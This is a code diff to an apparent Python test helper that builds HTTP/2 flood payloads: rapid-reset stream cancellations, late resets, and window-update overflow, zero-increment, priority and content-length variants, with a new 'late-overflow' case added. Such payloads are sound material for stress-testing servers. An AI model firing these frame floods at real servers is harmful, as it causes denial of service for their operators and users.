@@ -28,12 +28,16 @@ def _reset(stream):
     return frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
 
 
-def _late_resets():
-    """A hundred requests; once they run, as many others in their place, and so on."""
+def _overflow(stream):
+    return frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff")
+
+
+def _late(end):
+    """A hundred requests; once they run, their end and as many others in their place, and so on."""
     ask = lambda stream: get(stream, path=PATH)
     yield b"".join(map(ask, range(1, 200, 2)))
     for first in range(201, 2 * REPEATED // 10, 200):
-        yield b"".join(_reset(stream - 200) + ask(stream) for stream in range(first, first + 200, 2))
+        yield b"".join(end(stream - 200) + ask(stream) for stream in range(first, first + 200, 2))
 
 
 def _requests(more, method="GET", flags=END_STREAM | END_HEADERS):
@@ -48,8 +52,9 @@ def _open(more):
 # The octets of each; of one with pauses, in parts.
 FLOODS = {
     "rapid-reset": lambda: _requests(_reset),
-    "late-reset": lambda: list(_late_resets()),
-    "reset-by-window-overflow": lambda: _requests(lambda stream: frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff")),
+    "late-reset": lambda: list(_late(_reset)),
+    "late-overflow": lambda: list(_late(_overflow)),
+    "reset-by-window-overflow": lambda: _requests(_overflow),
     "reset-by-zero-increment": lambda: _requests(lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4))),
     "reset-by-priority-size": lambda: _requests(lambda stream: frame(PRIORITY, 0, stream, bytes(4))),
     "reset-by-content-length": lambda: b"".join(get(stream, ("content-length", "1"), method="POST", path=PATH, flags=END_HEADERS)
